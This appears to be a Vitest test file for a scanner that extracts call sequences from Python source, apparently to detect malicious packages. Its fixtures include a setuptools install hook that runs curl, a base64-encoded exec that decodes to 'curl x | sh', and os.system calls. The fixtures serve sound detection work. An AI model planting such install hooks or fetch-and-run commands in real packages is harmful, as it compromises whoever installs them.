import { describe, expect, it } from 'vitest';
import { callSequence } from '../../../src/scan/cluster/calls.js';

const calls = (src: string) => callSequence(src).filter((t) => !t.startsWith('import:'));

describe('callSequence', () => {
  it('resolves module aliases', () => {
    expect(calls('import os as o\no.system("id")')).toEqual(['os.system']);
    expect(calls('from subprocess import Popen as P\nP(["id"])')).toEqual(['subprocess.Popen']);
    expect(calls('import urllib.request\nurllib.request.urlopen("http://x")')).toEqual(['urllib.request.urlopen']);
    expect(calls("__import__('os').system('id')")).toEqual(['os.system']);
    expect(calls("__import__('builtins').exec('x')")).toEqual(['builtins.exec']);
  });

  it('keeps only the method for receivers of unknown type', () => {
    expect(calls('f = open("x")\nf.write(data)')).toEqual(['open', '.write']);
    expect(calls('import urllib.request as u\nu.urlopen(x).read()')).toEqual(['urllib.request.urlopen', '.read']);
  });

  it('puts arguments before the call that consumes them', () => {
    expect(calls('import base64\nexec(compile(base64.b64decode(p), "<s>", "exec"))')).toEqual(['base64.b64decode', 'compile', 'exec']);
  });

  it('inlines a local function once, where it is called', () => {
    const src = 'import os\ndef h():\n    os.system("a")\nprint(1)\nh()\nh()\nlen(x)';
    expect(calls(src)).toEqual(['print', 'os.system', 'len']);
  });

  it('bounds recursion', () => {
    expect(calls('def f(n):\n    print(n)\n    f(n - 1)\nf(3)')).toEqual(['print']);
  });

  it('reaches cmdclass methods that only setuptools calls, after the module body', () => {
    const src = [
      'import subprocess',
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'class I(install):',
      '    def run(self):',
      '        self.payload()',
      '        install.run(self)',
      '    def payload(self):',
      '        subprocess.check_call(["curl", "x"])',
      "setup(name='x', cmdclass={'install': I})",
    ].join('\n');
    expect(calls(src)).toEqual(['setuptools.setup', 'subprocess.check_call', 'setuptools.command.install.install.run']);
  });

  it('decodes a base64 literal and inlines the calls of the decoded code', () => {
    const payload = Buffer.from('import os\nos.system("curl x | sh")\n').toString('base64');
    expect(callSequence(`import base64\nexec(base64.b64decode("${payload}"))`)).toEqual(['import:base64', 'base64.b64decode', 'import:os', 'os.system', 'exec']);
  });

  it('emits the imports first', () => {
    expect(callSequence('import os, sys\nfrom setuptools import setup\nsetup()')).toEqual(['import:os', 'import:setuptools', 'setuptools.setup']);
  });

  it('survives syntax errors and pathological nesting', () => {
    expect(calls('x = = 1\nprint(1)\n')).toEqual(['print']);
    expect(calls('def f(:\n  pass\n\nprint(1)\n')).toEqual(['print']);
    const deep = 'x = ' + '('.repeat(3000) + '1' + ')'.repeat(3000) + '\nprint(x)';
    expect(calls(deep)).toEqual(['print']);
    const chain = 'x = ' + Array.from({ length: 5000 }, () => 'a').join(' + ') + '\nprint(x)';
    expect(calls(chain)).toEqual(['print']);
  });

  it('stops at maxTokens', () => {
    expect(callSequence('f()\n'.repeat(100), { maxTokens: 10 })).toHaveLength(10);
  });
});
